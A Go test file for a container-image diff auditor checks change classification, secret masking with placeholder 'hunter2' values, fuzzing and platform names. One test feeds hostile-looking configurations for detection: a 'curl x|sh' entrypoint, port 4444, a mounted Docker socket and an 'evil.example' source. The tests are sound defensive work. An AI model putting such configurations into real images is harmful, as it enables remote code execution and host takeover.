package diff_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"tidemark/audit/diff"
)

var update = flag.Bool("update", false, "write the golden files")

// A registry is content by digest.
type registry map[digest.Digest][]byte

func (r registry) read(d digest.Digest) ([]byte, error) {
	b, ok := r[d]
	if !ok {
		return nil, errors.New("404 Not Found")
	}
	return b, nil
}

func (r registry) put(v any) ocispec.Descriptor {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	d := digest.FromBytes(b)
	r[d] = b
	return ocispec.Descriptor{Digest: d, Size: int64(len(b))}
}

// An image as a test writes it.
type img struct {
	arch   string
	layers []string // names; their sizes are their lengths
	raw    []string // the unpacked layers, if they are others
	docker bool     // in Docker's formats
	conf   func(*ocispec.Image)
}

func (r registry) image(i img) ocispec.Descriptor {
	if i.arch == "" {
		i.arch = "amd64"
	}
	created := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)
	cfg := ocispec.Image{Platform: ocispec.Platform{OS: "linux", Architecture: i.arch}, Created: &created}
	m := ocispec.Manifest{MediaType: ocispec.MediaTypeImageManifest}
	m.SchemaVersion = 2
	layerType, configType := ocispec.MediaTypeImageLayerGzip, ocispec.MediaTypeImageConfig
	if i.docker {
		m.MediaType = "application/vnd.docker.distribution.manifest.v2+json"
		layerType, configType = "application/vnd.docker.image.rootfs.diff.tar.gzip", "application/vnd.docker.container.image.v1+json"
	}
	raw := i.raw
	if raw == nil {
		raw = i.layers
	}
	for n, l := range i.layers {
		m.Layers = append(m.Layers, ocispec.Descriptor{MediaType: layerType, Digest: digest.FromString(l), Size: int64(len(l))})
		cfg.RootFS.DiffIDs = append(cfg.RootFS.DiffIDs, digest.FromString("tar of "+raw[n]))
		cfg.History = append(cfg.History, ocispec.History{CreatedBy: "COPY " + raw[n]})
	}
	if i.conf != nil {
		i.conf(&cfg)
	}
	m.Config = r.put(cfg)
	m.Config.MediaType = configType
	d := r.put(m)
	d.MediaType = m.MediaType
	d.Platform = &cfg.Platform
	return d
}

func (r registry) index(children ...ocispec.Descriptor) digest.Digest {
	x := ocispec.Index{MediaType: ocispec.MediaTypeImageIndex, Manifests: children}
	x.SchemaVersion = 2
	return r.put(x).Digest
}

func attestation(of ocispec.Descriptor, name string) ocispec.Descriptor {
	return ocispec.Descriptor{
		MediaType: ocispec.MediaTypeImageManifest, Digest: digest.FromString(name), Size: 9,
		Platform:    &ocispec.Platform{OS: "unknown", Architecture: "unknown"},
		Annotations: map[string]string{"vnd.docker.reference.type": "attestation-manifest", "vnd.docker.reference.digest": of.Digest.String()},
	}
}

// named is an image under a platform that it may not be for.
func named(d ocispec.Descriptor, arch, variant string) ocispec.Descriptor {
	d.Platform = &ocispec.Platform{OS: "linux", Architecture: arch, Variant: variant}
	return d
}

func labels(kv ...string) func(*ocispec.Image) {
	return func(c *ocispec.Image) {
		c.Config.Labels = make(map[string]string)
		for i := 0; i < len(kv); i += 2 {
			c.Config.Labels[kv[i]] = kv[i+1]
		}
	}
}

// Whatever changed is told as what it is: by platform, and in the end by class.
func TestClasses(t *testing.T) {
	r := make(registry)
	amd, arm := r.image(img{layers: []string{"base", "app1"}}), r.image(img{arch: "arm64", layers: []string{"base-arm", "app1"}})
	amd2 := r.image(img{layers: []string{"base", "app2"}})
	const rev, version = ocispec.AnnotationRevision, ocispec.AnnotationVersion
	built, rebuilt := r.image(img{layers: []string{"base", "app"}, conf: labels(rev, "abc", version, "1.2")}), r.image(img{layers: []string{"newbase", "app"}, conf: labels(rev, "abc", version, "1.2")})
	next := r.image(img{layers: []string{"base", "app'"}, conf: labels(rev, "def", version, "1.3")})
	zipped, docker := r.image(img{layers: []string{"base.zst", "app1.zst"}, raw: []string{"base", "app1"}}), r.image(img{layers: []string{"base", "app1"}, docker: true})
	for _, tt := range []struct {
		name     string
		old, new digest.Digest
		class    string
		signals  string
	}{
		{"another layer", amd.Digest, amd2.Digest, "", ""},
		{"the same in Docker's format", amd.Digest, docker.Digest, diff.Repackaged, ""},
		{"the same, compressed otherwise", amd.Digest, zipped.Digest, diff.Repackaged, "recompressed no_shared_layers"},
		{"the same images under another index", r.index(amd, arm), r.index(arm, amd), diff.Repackaged, ""},
		{"one platform recompressed in an index", r.index(amd, arm), r.index(zipped, arm), diff.Repackaged, "recompressed no_shared_layers"},
		{"a platform more", r.index(amd), r.index(amd, arm), diff.PlatformAdded, ""},
		{"a platform less", r.index(amd, arm), r.index(amd), diff.PlatformRemoved, "platform_removed"},
		{"only an attestation", r.index(amd, attestation(amd, "one")), r.index(amd, attestation(amd, "two")), diff.AttestationOnly, ""},
		{"an attestation is gone", r.index(amd, attestation(amd, "one")), r.index(amd), diff.AttestationOnly, ""},
		{"a manifest becomes an index around it", amd.Digest, r.index(amd, arm), diff.PlatformAdded, "became_index"},
		{"an index becomes one of its manifests", r.index(amd, arm), amd.Digest, diff.PlatformRemoved, "became_single platform_removed"},
		{"a manifest becomes an index of others", amd.Digest, r.index(amd2, arm), "", "became_index"},
		{"the same source, another base", built.Digest, rebuilt.Digest, diff.Rebuild, ""},
		{"another source", built.Digest, next.Digest, "", ""},
		{"the same platform by another name before it", r.index(arm), r.index(named(amd2, "arm64", "v8"), arm), "", "no_shared_layers"},
		{"one platform changed, one added", r.index(amd), r.index(amd2, arm), "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d, err := diff.Between(tt.old, tt.new, r.read)
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(d.Signals, " "); d.Class != tt.class || got != tt.signals {
				t.Errorf("class %q, signals %q; want %q, %q\n%s", d.Class, got, tt.class, tt.signals, d.Encode())
			}
		})
	}
}

// What may be dangerous in a configuration is signalled.
func TestConfigurationsThatDeserveALook(t *testing.T) {
	r := make(registry)
	old := r.image(img{layers: []string{"l"}, conf: func(c *ocispec.Image) {
		c.Config.User, c.Config.Entrypoint = "1000", []string{"/app"}
		c.Config.Labels = map[string]string{ocispec.AnnotationSource: "https://git.example/app", ocispec.AnnotationRevision: "abc"}
	}})
	early := time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC)
	for want, conf := range map[string]func(*ocispec.Image){
		"user_to_root":       func(c *ocispec.Image) { c.Config.User = "" },
		"entrypoint_changed": func(c *ocispec.Image) { c.Config.Entrypoint = []string{"/bin/sh", "-c", "curl x|sh; /app"} },
		"env_added:PATH":     func(c *ocispec.Image) { c.Config.Env = []string{"PATH=/tmp:/bin"} },
		"ports_changed":      func(c *ocispec.Image) { c.Config.ExposedPorts = map[string]struct{}{"4444/tcp": {}} },
		"volume_added":       func(c *ocispec.Image) { c.Config.Volumes = map[string]struct{}{"/var/run/docker.sock": {}} },
		"source_changed":     func(c *ocispec.Image) { c.Config.Labels[ocispec.AnnotationSource] = "https://evil.example/app" },
		"revision_missing":   func(c *ocispec.Image) { delete(c.Config.Labels, ocispec.AnnotationRevision) },
		"created_regressed":  func(c *ocispec.Image) { c.Created = &early },
		"cmd_changed":        func(c *ocispec.Image) { c.Config.Cmd = []string{"--debug"} },
	} {
		new := r.image(img{layers: []string{"l"}, conf: func(c *ocispec.Image) {
			c.Config.User, c.Config.Entrypoint = "1000", []string{"/app"}
			c.Config.Labels = map[string]string{ocispec.AnnotationSource: "https://git.example/app", ocispec.AnnotationRevision: "abc"}
			conf(c)
		}})
		d, err := diff.Between(old.Digest, new.Digest, r.read)
		if err != nil || fmt.Sprint(d.Signals) != "["+want+"]" {
			t.Errorf("signals %v, %v; want %s", d.Signals, err, want)
		}
	}
}

// A whole diff, byte for byte: it is stored, and referred to by its digest.
func TestGolden(t *testing.T) {
	r := make(registry)
	old := r.index(
		r.image(img{layers: []string{"base", "deps", "app1"}, conf: func(c *ocispec.Image) {
			c.Config.Env = []string{"PATH=/bin", "MODE=fast", "API_TOKEN=hunter2"}
			c.Config.Cmd, c.Config.ExposedPorts = []string{"serve", "--password=hunter2"}, map[string]struct{}{"80/tcp": {}}
			c.Config.Labels = map[string]string{ocispec.AnnotationVersion: "1.0", ocispec.AnnotationBaseImageName: "debian:12", "db.password": "hunter2"}
		}}),
		r.image(img{arch: "arm64", layers: []string{"base-arm", "app1"}}),
		r.image(img{arch: "s390x", layers: []string{"base-s390x", "app1"}}))
	new := r.index(
		r.image(img{layers: []string{"base", "app2-which-is-larger"}, conf: func(c *ocispec.Image) {
			c.Config.Env = []string{"PATH=/bin", "MODE=slow", "API_TOKEN=hunter3", "NEW=https://user:hunter2@example/"}
			c.Config.Cmd, c.Config.ExposedPorts = []string{"serve"}, map[string]struct{}{"8080/tcp": {}}
			c.Config.Labels = map[string]string{ocispec.AnnotationVersion: "1.1", ocispec.AnnotationBaseImageName: "debian:12"}
		}}),
		r.image(img{arch: "arm64", layers: []string{"base-arm", "app1"}}),
		r.image(img{arch: "riscv64", layers: []string{"base-riscv", "app2"}}))
	d, err := diff.Between(old, new, r.read)
	if err != nil {
		t.Fatal(err)
	}
	got := d.Encode()
	if strings.Contains(string(got), "hunter") {
		t.Error("a secret is shown")
	}
	if again, err := diff.Between(old, new, r.read); err != nil || !bytes.Equal(again.Encode(), got) {
		t.Error("the same content gives another diff")
	}
	parsed, err := diff.Parse(got)
	if err != nil || !bytes.Equal(parsed.Encode(), got) {
		t.Errorf("not read back as it was written: %v", err)
	}
	if tot := d.Totals(); tot.Shared != 1 || tot.Added != 1 || tot.Removed != 2 || tot.BytesDelta != int64(len("app2-which-is-larger")-len("depsapp1")) || fmt.Sprint(tot.ConfigChanged) != "[Env Cmd ExposedPorts Labels]" {
		t.Errorf("totals are %+v", tot)
	}
	var pretty bytes.Buffer
	if err := json.Indent(&pretty, got, "", "  "); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "golden.json")
	if *update {
		if err := os.WriteFile(golden, pretty.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil || !bytes.Equal(want, pretty.Bytes()) {
		t.Errorf("the diff is\n%s\nwant, as in %s, %v\n%s", pretty.Bytes(), golden, err, want)
	}
}

// What looks like a secret is masked wherever it stands, and what does not is
// shown: that a diff is read is what it is for.
func TestSecretsAreMasked(t *testing.T) {
	r := make(registry)
	secrets := []string{
		"TOKEN=hunter2", "STRIPE_KEY=hunter2", "API-KEY=hunter2", "MYSQL_DSN=root:hunter2@tcp(db)/x", "DB_PASSWORD=hunter2", "GITHUB_PAT=hunter2",
		"REMOTE=https://hunter2@github.com/x", "URL=postgres://u:hunter2@db/x", "AWS_SECRET_ACCESS_KEY=hunter2", "HEADER=Authorization: Bearer hunter2", "AUTH=hunter2",
	}
	shown := []string{"MODE=visible", "LANG=visible", "KEYBOARD=visible", "PATTERN=visible", "COMPASS=visible", "HOME=/visible"}
	conf := func(c *ocispec.Image) {
		c.Config.Env = append(append([]string{}, secrets...), shown...)
		c.Config.Cmd = []string{"/app", "--token", "hunter2", "--listen", "visible", "--password=hunter2", "-H", "Authorization: Bearer hunter2"}
		c.Config.Entrypoint = []string{"/bin/sh", "-c", "PASSWORD='hunter2 hunter2' API_TOKEN=\"hunter2\" exec app --secret hunter2 visible"}
		c.Config.Labels = map[string]string{"org.opencontainers.image.authors": "visible", "com.example.api-key": "hunter2", "note": "password: hunter2"}
		c.History = []ocispec.History{{CreatedBy: "RUN --mount=x TOKEN='hunter2' curl -u x https://me:hunter2@example/visible"}}
	}
	a := r.image(img{layers: []string{"x"}})
	b := r.image(img{layers: []string{"y"}, conf: conf})
	var m ocispec.Manifest
	var cfg map[string]any
	if err := errors.Join(json.Unmarshal(r[b.Digest], &m), json.Unmarshal(r[m.Config.Digest], &cfg)); err != nil {
		t.Fatal(err)
	}
	cfg["config"].(map[string]any)["Healthcheck"] = map[string]any{"Test": []string{"CMD", "curl", "--password", "hunter2", "visible"}}
	m.Config.Digest = r.put(cfg).Digest
	b = r.put(m)
	d, err := diff.Between(a.Digest, b.Digest, r.read)
	if err != nil {
		t.Fatal(err)
	}
	got := string(d.Encode())
	if i := strings.Index(got, "hunter2"); i >= 0 {
		t.Errorf("a secret is shown: …%s…", got[max(0, i-80):min(len(got), i+20)])
	}
	if n := strings.Count(got, "visible"); n != len(shown)+5 {
		t.Errorf("what is no secret is shown %d times, want %d\n%s", n, len(shown)+5, got)
	}
}

// Only what no client takes for an image is an attestation, and only images can
// be repackaged: an artifact whose content changed has moved.
func TestNobodyHidesBehindAClass(t *testing.T) {
	r := make(registry)
	good, evil := r.image(img{layers: []string{"good"}}), r.image(img{layers: []string{"evil"}})
	marked := evil
	marked.Annotations = map[string]string{"vnd.docker.reference.type": "attestation-manifest"}
	d, err := diff.Between(r.index(good), r.index(marked, good), r.read)
	if err != nil || d.Class != "" || fmt.Sprint(d.Platforms.Changed) != "[linux/amd64]" {
		t.Errorf("an image that calls itself an attestation: %v, class %q\n%s", err, d.Class, d.Encode())
	}
	artifact := func(config any, layer string) digest.Digest {
		m := ocispec.Manifest{MediaType: ocispec.MediaTypeImageManifest, ArtifactType: "application/vnd.example", Config: r.put(config)}
		m.SchemaVersion = 2
		m.Layers = []ocispec.Descriptor{{MediaType: "application/x", Digest: digest.FromString(layer), Size: 1}}
		return r.put(m).Digest
	}
	for name, configs := range map[string][2]any{
		"the empty configuration": {map[string]any{}, map[string]any{}},
		"a chart's configuration": {map[string]any{"name": "x", "appVersion": "1"}, map[string]any{"name": "x", "appVersion": "2"}},
	} {
		if d, err := diff.Between(artifact(configs[0], "good"), artifact(configs[1], "evil"), r.read); err != nil || d.Class != "" {
			t.Errorf("%s: %v, class %q", name, err, d.Class)
		}
	}
}

// Manifests of any size are compared in the time that reading them takes.
func TestLargeManifestsAreComparedSoon(t *testing.T) {
	r := make(registry)
	many := func(prefix string) digest.Digest {
		m := ocispec.Manifest{MediaType: ocispec.MediaTypeImageManifest, Config: r.put(map[string]any{})}
		for i := range 40_000 {
			m.Layers = append(m.Layers, ocispec.Descriptor{Digest: digest.FromString(fmt.Sprint(prefix, i)), Size: 1})
		}
		return r.put(m).Digest
	}
	old, new := many("a"), many("b")
	began := time.Now()
	if d, err := diff.Between(old, new, r.read); err != nil || len(d.Changed[0].Layers.Added) != 40_000 {
		t.Errorf("%v", err)
	}
	if took := time.Since(began); took > 10*time.Second { // comparing each with each takes minutes
		t.Errorf("it took %v", took)
	}
}

// What is not to be had makes a diff shallower and is told; without one of the
// two manifests there is none.
func TestWhatIsMissingIsTold(t *testing.T) {
	r := make(registry)
	a, b := r.image(img{layers: []string{"x"}}), r.image(img{layers: []string{"y"}, conf: labels("l", "1")})
	old, new := r.index(a), r.index(b)
	var m ocispec.Manifest
	if err := json.Unmarshal(r[a.Digest], &m); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		gone digest.Digest
		tier int
	}{{"", 2}, {m.Config.Digest, 1}, {a.Digest, 0}} {
		kept := r[tt.gone]
		delete(r, tt.gone)
		d, err := diff.Between(old, new, r.read)
		if err != nil || d.Tier != tt.tier || (len(d.Unreadable) > 0) != (tt.gone != "") || d.Class == diff.Repackaged {
			t.Errorf("without %s: tier %d, unreadable %v, class %q, %v; want tier %d", tt.gone, d.Tier, d.Unreadable, d.Class, err, tt.tier)
		}
		if tt.gone != "" {
			r[tt.gone] = kept
		}
	}
	delete(r, old)
	if _, err := diff.Between(old, new, r.read); err == nil || !strings.Contains(err.Error(), "old manifest") {
		t.Errorf("without the old manifest: %v", err)
	}
	for _, bad := range []string{"", "null", "[]", `{"schemaVersion":1}`, `{"manifests":5}`} {
		x := digest.FromString(bad)
		r[x] = []byte(bad)
		if d, err := diff.Between(x, b.Digest, r.read); err == nil && bad != "null" {
			t.Errorf("%q was compared: %s", bad, d.Encode())
		}
	}
}

// No content makes a comparison panic, or shows what looks like a secret.
func FuzzBetween(f *testing.F) {
	r := make(registry)
	a := r.image(img{layers: []string{"x"}, conf: func(c *ocispec.Image) { c.Config.Env = []string{"TOKEN=hunter2"} }})
	f.Add(r[a.Digest], []byte(`{"config":{"Env":["A","=","TOKEN=hunter2"]},"history":[{}]}`))
	f.Add([]byte(`{"schemaVersion":2,"manifests":[{"digest":"x","platform":null},{"digest":"x"}]}`), []byte(`{}`))
	f.Fuzz(func(t *testing.T, manifest, config []byte) {
		root := digest.FromString("root")
		read := func(d digest.Digest) ([]byte, error) {
			switch d {
			case root:
				return manifest, nil
			case a.Digest:
				return r[d], nil
			}
			return config, nil
		}
		if d, err := diff.Between(a.Digest, root, read); err == nil {
			if _, err := diff.Parse(d.Encode()); err != nil {
				t.Fatal(err)
			}
		}
	})
}

// Spellings that clients take for the same platform are one.
func TestPlatformsAsClientsUnderstandThem(t *testing.T) {
	for name, want := range map[string]string{
		"linux/arm64/v8": "linux/arm64", "linux/aarch64": "linux/arm64", "linux/arm64": "linux/arm64", "linux/arm64/v9": "linux/arm64/v9",
		"linux/x86_64": "linux/amd64", "linux/amd64/v1": "linux/amd64", "linux/amd64/v3": "linux/amd64/v3", "Linux/AMD64": "linux/amd64",
		"linux/arm": "linux/arm/v7", "linux/armhf": "linux/arm/v7", "linux/arm/6": "linux/arm/v6", "linux/i386": "linux/386", "macos/arm64": "darwin/arm64",
		"windows/amd64": "windows/amd64", "": "", "wasm": "wasm",
	} {
		if got := diff.Canonical(name); got != want {
			t.Errorf("%s is %s, want %s", name, got, want)
		}
	}
}
